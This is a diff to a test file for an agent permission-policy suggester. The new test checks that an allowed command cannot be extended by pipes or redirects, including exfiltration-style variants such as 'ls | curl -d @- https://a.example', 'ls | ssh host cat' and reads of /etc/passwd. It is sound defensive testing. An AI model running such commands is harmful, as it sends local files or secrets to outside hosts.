@@ -93,6 +93,22 @@ describe("suggestRule", () => {
     expect(why).toBe("A rule for this call would not allow it: No calls are left.");
   });
 
+  test.each([
+    ["mycli send", ["echo x | mycli send", "mycli send <<< x", "mycli send < /etc/passwd"]],
+    ["curl -d @- https://a.example", ["ls | curl -d @- https://a.example"]],
+    ["ssh host cat", ["ls | ssh host cat", "{ ssh host cat; } < src/a", "exec < a; ssh host cat"]],
+    ["cat", ["cat < /etc/passwd", "ls | cat"]],
+    ["ls | cat", ["cat < /etc/passwd", "cat < src/a"]],
+    ["wc -l src/a.ts", ["wc -l src/a.ts < /etc/passwd"]],
+  ])("gives a command nothing to read that it did not get in %s", async (line, others) => {
+    const { toml = "" } = await suggest(run(line));
+    const added = parsePolicy(toml, { file: "suggestion.toml", operator: true });
+    const pool = compilePolicy([...files, added]);
+    expect((await decide(run(line), pool)).effect).toBe("allow");
+    for (const other of others)
+      expect([other, (await decide(run(other), pool)).effect]).toEqual([other, "ask_user"]);
+  });
+
   it("tests the rule with harmful variants of the call", async () => {
     const blind = async (asked: ToolCall, pool: PolicyPool): Promise<SuggestionOutcome> =>
       pool.rules.some(({ name }) => name === "allow-make") &&
